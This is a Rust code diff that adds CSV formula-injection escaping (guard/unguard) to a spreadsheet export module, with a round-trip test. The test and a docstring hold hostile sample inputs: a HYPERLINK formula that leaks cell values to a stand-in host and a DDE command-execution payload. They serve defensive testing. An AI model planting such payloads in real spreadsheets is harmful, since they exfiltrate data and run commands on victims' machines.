@@ -34,6 +34,34 @@ pub fn parse_integer(cell: &str) -> Result<i32, String> {
     }
 }
 
+/// What a spreadsheet reads as the start of a formula: `=`, `+`, `-`, `@`, a tab or a carriage
+/// return (OWASP's CSV injection guidance).
+fn starts_a_formula(text: &str) -> bool {
+    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// A cell as exported: text that a spreadsheet would take for a formula
+/// (`=HYPERLINK("http://…?"&D2,"Dossier")` in a name) gets a leading `'`, which spreadsheets
+/// show as text and [`unguard`] takes off on import. Numbers (a negative longitude) are left
+/// as they are, and so is text that does not start a formula. Text that starts with `'`s before a
+/// formula character gets one more, so that every value comes back the same.
+pub fn guard(cell: &str) -> std::borrow::Cow<'_, str> {
+    let after_quotes = cell.trim_start_matches('\'');
+    if starts_a_formula(after_quotes) && parse_number(cell).is_err() {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// A cell as imported: the `'` that [`guard`] put before a formula character is taken off.
+pub fn unguard(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if starts_a_formula(rest.trim_start_matches('\'')) => rest,
+        _ => cell,
+    }
+}
+
 /// A number written so that [`parse_number`] reads back the same `f64` (shortest round trip).
 pub fn number(n: f64) -> String {
     n.to_string()
@@ -184,6 +212,27 @@ pub fn languages(items: &[LanguageRecord]) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn formula_text_is_exported_as_text_and_imported_as_it_was() {
+        let attack = "=HYPERLINK(\"http://x.example/?leak=\"&D2&E2,\"Dossier\")";
+        for (value, exported) in [
+            (attack, format!("'{attack}")),
+            ("+33 6 12 34 56 78", "'+33 6 12 34 56 78".to_owned()),
+            ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0".to_owned()),
+            ("@SUM(A1:A9)", "'@SUM(A1:A9)".to_owned()),
+            ("\t=1+1", "'\t=1+1".to_owned()),
+            ("'=already quoted", "''=already quoted".to_owned()),
+            ("-6.1296", "-6.1296".to_owned()),
+            ("+12", "+12".to_owned()),
+            ("Jean-Luc", "Jean-Luc".to_owned()),
+            ("l'Ourthe", "l'Ourthe".to_owned()),
+            ("'quoted", "'quoted".to_owned()),
+        ] {
+            assert_eq!(guard(value), exported, "{value}");
+            assert_eq!(unguard(&guard(value)), value, "{value} comes back");
+        }
+    }
 
     #[test]
     fn a_decimal_comma_reads_like_a_decimal_point() {
